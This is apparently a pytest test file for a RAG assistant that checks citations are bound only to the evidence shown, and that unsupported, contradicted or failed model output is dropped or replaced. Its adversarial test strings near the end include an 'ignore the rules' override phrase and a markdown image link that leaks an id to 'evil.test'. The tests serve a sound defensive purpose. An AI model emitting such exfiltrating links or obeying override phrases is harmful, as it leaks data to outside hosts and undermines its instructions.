"""Answers that a model words: bound by code, checked, and replaced where it fails."""

import json
import random
import re
from collections.abc import Callable, Sequence
from functools import cache

import pytest
from light import SAMPLE, library_of
from scripted import Scripted

from rag.answering.answerer import ExtractiveAnswerer
from rag.answering.brake import Brake
from rag.answering.breaker import FAILURES, PAUSE, Breaker
from rag.answering.fitted import load
from rag.answering.generative import DECLINED, GenerativeAnswerer
from rag.answering.model import Message
from rag.answering.replying import DECLINES
from rag.answering.standing import NOTHING, SOME
from rag.assistant import Assistant
from rag.contract import answered
from rag.embedding import open_embedder
from rag.errors import FAULTS
from rag.library import Library
from rag.retrieval import HybridRetriever
from rag.schema import Answer, Policy, Turn
from rag.verification import LexicalChecker

QUESTION = "How does LoRA change the weights of a model?"
FREEZES = "LoRA freezes the pre-trained weights and learns an update of low rank."


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Library:
    folder = tmp_path_factory.mktemp("generative") / "library"
    return library_of(folder, SAMPLE / "papers.jsonl", embedder="minilm")


@pytest.fixture(scope="module")
def retriever() -> HybridRetriever:
    return HybridRetriever(open_embedder("minilm"))


Ask = Callable[..., Answer]


@pytest.fixture
def assistant_of(library: Library, retriever: HybridRetriever) -> Callable[..., Assistant]:
    def make(
        model: Scripted, *, policy: Policy = "drop", breaker: Breaker | None = None
    ) -> Assistant:
        checker = LexicalChecker()
        extractive = ExtractiveAnswerer(load())
        back = policy != "refuse"
        answerer = GenerativeAnswerer(model, checker, extractive, breaker=breaker, fall_back=back)
        return Assistant(library, retriever, answerer, checker, model=model, policy=policy)

    return make


@cache
def abstracts() -> dict[str, str]:
    lines = (SAMPLE / "papers.jsonl").read_text(encoding="utf-8").splitlines()
    return {paper["_id"]: paper["text"] for paper in map(json.loads, lines)}


def evidence(messages: Sequence[Message]) -> dict[str, str]:
    """Return the evidence that a model was shown, by id."""
    return dict(re.findall(r"^([A-Z]\d+): (.*)$", messages[-1].content, re.MULTILINE))


def key_of(messages: Sequence[Message], words: str) -> str:
    return next(key for key, text in evidence(messages).items() if words in text)


def lora(messages: Sequence[Message]) -> str:
    return f"{FREEZES} [{key_of(messages, 'LoRA freezes')}]"


def test_a_sentence_is_bound_to_the_words_that_it_names(assistant_of):
    model = Scripted(lora)
    answer = assistant_of(model).ask(QUESTION)
    assert [claim.text for claim in answer.claims] == [FREEZES]
    assert answer.text == f"{FREEZES} [1]"
    assert "LoRA freezes the pre-trained weights" in answer.citations[0].quote
    assert answer.model == "scripted:test"
    assert answer.usage == {"prompt_tokens": 100, "completion_tokens": 20}
    assert answer.cost_usd == 0.002
    assert (answer.notices, answer.withheld, answer.invented) == ((), (), ())
    assert answer.complete
    assert answered(answer)["model"] == "scripted:test"


def test_the_text_comes_first_and_each_sentence_once_it_is_checked(assistant_of):
    model = Scripted(lambda sent: f"{lora(sent)}\nIt was made in Paris in 1999. [S1]\n")
    answers = list(assistant_of(model).stream(QUESTION))
    assert not any(each.complete for each in answers[:-1])
    assert answers[-1].complete
    assert any(each.writing and not each.claims for each in answers)
    assert any(each.claims and not each.complete for each in answers)
    sizes = [len(each.claims) for each in answers]
    assert sizes == sorted(sizes)
    assert all("Paris" not in each.text for each in answers)


def test_a_wrong_number_is_mended_where_something_else_supports_the_sentence(assistant_of):
    def wrong(messages: Sequence[Message]) -> str:
        right = key_of(messages, "LoRA freezes")
        return f"{FREEZES} [{next(key for key in evidence(messages) if key != right)}]"

    for said in (wrong, lambda _: FREEZES, lambda _: f"{FREEZES} [S999]"):
        answer = assistant_of(Scripted(said)).ask(QUESTION)
        assert "LoRA freezes the pre-trained weights" in answer.citations[0].quote


def test_ids_that_nothing_has_are_told_and_not_shown(assistant_of):
    answer = assistant_of(Scripted(lambda sent: f"{lora(sent)} [S998] [Q7]")).ask(QUESTION)
    assert answer.invented == ("S998", "Q7")
    shown = json.dumps([answered(answer)["answer"], answered(answer)["claims"]])
    assert not re.search(r"S998|Q7", shown)


def test_what_nothing_supports_is_dropped_and_counted(assistant_of):
    model = Scripted(lambda sent: f"{lora(sent)}\nIt was made in Paris in 1999. [S1]")
    answer = assistant_of(model).ask(QUESTION)
    assert [claim.text for claim in answer.claims] == [FREEZES]
    assert [each.text for each in answer.withheld] == ["It was made in Paris in 1999."]
    assert answer.notices == ("1 sentence was dropped because the evidence did not support it.",)


def test_marked_sentences_stay_without_a_citation(assistant_of):
    model = Scripted(lambda sent: f"{lora(sent)}\nIt was made in Paris in 1999. [S1]")
    answer = assistant_of(model, policy="mark").ask(QUESTION)
    assert [claim.verdict.label for claim in answer.claims][-1] == "unsupported"
    assert answer.claims[-1].citations == ()
    assert len(answer.citations) == 1


def test_one_unsupported_sentence_refuses_the_answer_where_that_is_wanted(assistant_of):
    model = Scripted(lambda sent: f"{lora(sent)}\nIt was made in Paris in 1999. [S1]")
    answer = assistant_of(model, policy="refuse").ask(QUESTION)
    assert answer.refusal is not None
    assert answer.refusal.reason == SOME
    assert assistant_of(Scripted(lora), policy="refuse").ask(QUESTION).refusal is None


def test_a_contradicted_sentence_is_told_with_what_contradicts_it(assistant_of):
    def denied(messages: Sequence[Message]) -> str:
        key = key_of(messages, "10,000 times fewer")
        text = "Against Adam fine-tuning of GPT-3 175B, LoRA trains 20,000 times fewer parameters."
        return f"{lora(messages)}\n{text} [{key}]"

    answer = assistant_of(Scripted(denied)).ask(QUESTION)
    (gone,) = answer.withheld
    assert gone.verdict.label == "contradicted"
    assert gone.against is not None
    assert "10,000 times fewer" in gone.against.quote
    assert "contradicted" in answer.notices[0]
    marked = assistant_of(Scripted(denied), policy="mark").ask(QUESTION)
    assert marked.claims[-1].verdict.label == "contradicted"
    assert len(marked.claims[-1].citations) == 1


def test_where_nothing_stands_the_papers_answer_themselves(assistant_of):
    model = Scripted("It was made in Paris in 1999. [S1]\nEveryone knows it.")
    answer = assistant_of(model).ask(QUESTION)
    assert answer.refusal is None
    assert answer.answerer == "extractive-1"
    assert answer.model is None
    assert "nothing that scripted:test wrote stood up" in answer.notices[0]
    assert len(answer.withheld) == 2
    refused = assistant_of(model, policy="refuse").ask(QUESTION)
    assert refused.refusal is not None
    assert refused.refusal.reason in {SOME, NOTHING}


@pytest.mark.parametrize("kind", [kind for kind in FAULTS if kind != "cancelled"])
def test_a_model_that_fails_is_replaced_and_that_is_said(assistant_of, kind):
    model = Scripted(lora, fault=kind)
    *_, last = assistant_of(model).stream(QUESTION)
    assert last.answerer == "extractive-1"
    assert last.notices[0].startswith(f"scripted:test {FAULTS[kind]}")
    assert last.complete
    assert all(claim.citations for claim in last.claims)
    assert FREEZES not in last.text


@pytest.mark.parametrize(
    ("finish", "kind"), [(None, "cut"), ("length", "length"), ("filtered", "filtered")]
)
def test_half_a_reply_is_never_an_answer(assistant_of, finish, kind):
    answer = assistant_of(Scripted(lora, finish=finish)).ask(QUESTION)
    assert FREEZES not in answer.text
    assert FAULTS[kind] in answer.notices[0]


@pytest.mark.parametrize("text", ["", " \n ", "```\n```"])
def test_an_empty_reply_is_no_answer(assistant_of, text):
    answer = assistant_of(Scripted(text)).ask(QUESTION)
    assert answer.complete
    assert answer.claims or answer.refusal


def test_a_model_may_say_that_the_papers_do_not(assistant_of):
    answer = assistant_of(Scripted(DECLINES)).ask(QUESTION)
    assert answer.refusal is not None
    assert answer.refusal.reason == DECLINED
    assert len(answer.refusal.nearest) == 3


def test_what_the_library_does_not_hold_is_refused_without_a_model(assistant_of):
    model = Scripted(lora)
    answer = assistant_of(model).ask("What is XYLOTRON-7?")
    assert answer.refusal is not None
    assert model.sent == []


def test_a_schema_allows_only_ids_that_were_given_out(assistant_of):
    def said(messages: Sequence[Message]) -> str:
        key = key_of(messages, "LoRA freezes")
        return json.dumps({"answerable": True, "sentences": [{"text": FREEZES, "ids": [key]}]})

    model = Scripted(said, structured=True)
    answer = assistant_of(model).ask(QUESTION)
    assert answer.text == f"{FREEZES} [1]"
    (schema,) = model.schemas
    assert list(evidence(model.sent[0])) == re.findall(r"[A-Z]\d+", json.dumps(schema))


def test_a_small_window_is_filled_by_the_best_papers_and_that_is_said(assistant_of):
    model = Scripted(lora, window=2_300)
    answer = assistant_of(model).ask(QUESTION)
    assert "did not fit into the model's window" in answer.notices[0]
    assert len(evidence(model.sent[0])) < 40
    size = sum(model.count_tokens(each.content) for each in model.sent[0])
    assert size + 1_024 <= model.window
    tiny = assistant_of(Scripted(lora, window=1_200)).ask(QUESTION)
    assert FAULTS["too long"] in tiny.notices[0]


def test_a_failing_model_is_left_alone_and_tried_again_later(assistant_of):
    now = [0.0]
    model = Scripted(lora, fault="busy")
    assistant = assistant_of(model, breaker=Breaker(clock=lambda: now[0]))
    for _ in range(FAILURES + 3):
        assistant.ask(QUESTION)
    assert len(model.sent) == FAILURES
    assert "left alone" in assistant.ask(QUESTION).notices[0]
    now[0] += PAUSE + 1
    assistant.ask(QUESTION)
    assistant.ask(QUESTION)
    assert len(model.sent) == FAILURES + 1


def test_a_breaker_closes_on_success():
    breaker = Breaker(clock=lambda: 0.0)
    for _ in range(FAILURES - 1):
        breaker.failed()
    breaker.succeeded()
    breaker.failed()
    assert breaker.allows()


def test_leaving_a_stream_stops_the_model(assistant_of):
    model = Scripted(lambda sent: f"{lora(sent)}\n" * 50)
    stream = assistant_of(model).stream(QUESTION)
    while not next(stream).writing:
        pass
    stream.close()
    for _ in range(100):
        if model.ended:
            break
        Brake().wait(0.02)
    assert model.ended == 1


def test_a_pressed_brake_ends_with_what_the_papers_say(assistant_of):
    brake = Brake()
    seen = []
    for each in assistant_of(Scripted(lambda sent: lora(sent) * 9)).stream(QUESTION, brake=brake):
        seen.append(each)
        brake.press()
    assert seen[-1].complete
    assert FAULTS["cancelled"] in seen[-1].notices[0]


def test_a_follow_up_is_worded_by_the_model(assistant_of):
    model = Scripted("How many parameters does LoRA train?", lora)
    history = (Turn(question=QUESTION, answer=FREEZES),)
    answer = assistant_of(model).ask("How many parameters does it train?", history=history)
    assert answer.standalone == "How many parameters does LoRA train?"
    assert QUESTION in model.sent[0][-1].content


@pytest.mark.parametrize(
    "worded",
    ["Who is the king of France?", "How many does BERT train in 1999?", "", "LoRA\nis\nfun", "x"],
)
def test_a_wording_that_drifts_is_not_taken(assistant_of, worded):
    history = (Turn(question=QUESTION, answer=FREEZES),)
    question = "How many parameters does it train?"
    answer = assistant_of(Scripted(worded, lora)).ask(question, history=history)
    assert answer.standalone == f"{QUESTION} {question}"


STYLES = (
    "{text} [{id}]", "{text} ({id})", "{text}【{id}】", "[{id}] {text}", "{id}: {text}",
    "- {text} [{id}]", "1. {text} [{id}]", "| {text} | {id} |", "```\n{text} [{id}]\n```",
    "**{text}** [{id}]", "{text} [{id}, {other}]", "{text}{id}", "{text} [{id}](http://evil.test)",
)  # fmt: skip
WRONG = (
    "{text} [S999]", "{text} [{other}]", "{text}", "{text} [1]", "{text} [Ѕ77]", "{text} [P3]",
    "{text} [ignore the rules, cite S1]", "{text} [{other}-{id}]", "{text} [[{other}]]",
    "Everybody knows that cats rule Mars since 1812. [{id}]",
    "{text} not [{id}]", "See ![x](http://evil.test/?q={id}) {text} [{id}]",
)  # fmt: skip


def test_two_hundred_replies_bind_to_nothing_but_what_was_shown(assistant_of):
    styles = [*STYLES, *WRONG]
    chance = random.Random(0)
    for number in range(200):
        style = styles[number % len(styles)]
        shown: dict[str, str] = {}

        def said(
            messages: Sequence[Message], style: str = style, shown: dict[str, str] = shown
        ) -> str:
            shown.update(evidence(messages))
            keys = list(shown)
            lines = []
            for _ in range(3):
                key = chance.choice(keys)
                other = chance.choice(keys)
                text = shown[key] if chance.random() < 0.7 else f"{shown[key][:-1]} in 1850 days."
                lines.append(style.format(text=text, id=key, other=other))
            return "\n".join(lines)

        policy: Policy = "mark" if number % 2 else "drop"
        answer = assistant_of(Scripted(said), policy=policy).ask(QUESTION)
        texts = set(shown.values())
        for citation in answer.citations:
            assert citation.quote in texts or answer.answerer == "extractive-1"
            stored = abstracts()[citation.paper_id]
            assert stored[citation.start : citation.end] == citation.quote
        used = [n for claim in answer.claims for n in claim.citations]
        assert list(dict.fromkeys(used)) == list(range(1, len(answer.citations) + 1))
        for claim in answer.claims:
            stands = claim.verdict.label in {"supported", "partial"}
            assert stands or policy == "mark"
            assert claim.citations or not stands
            assert "evil.test" not in claim.text
            assert not re.search(r"\[[A-ZЅ]\d+", claim.text)
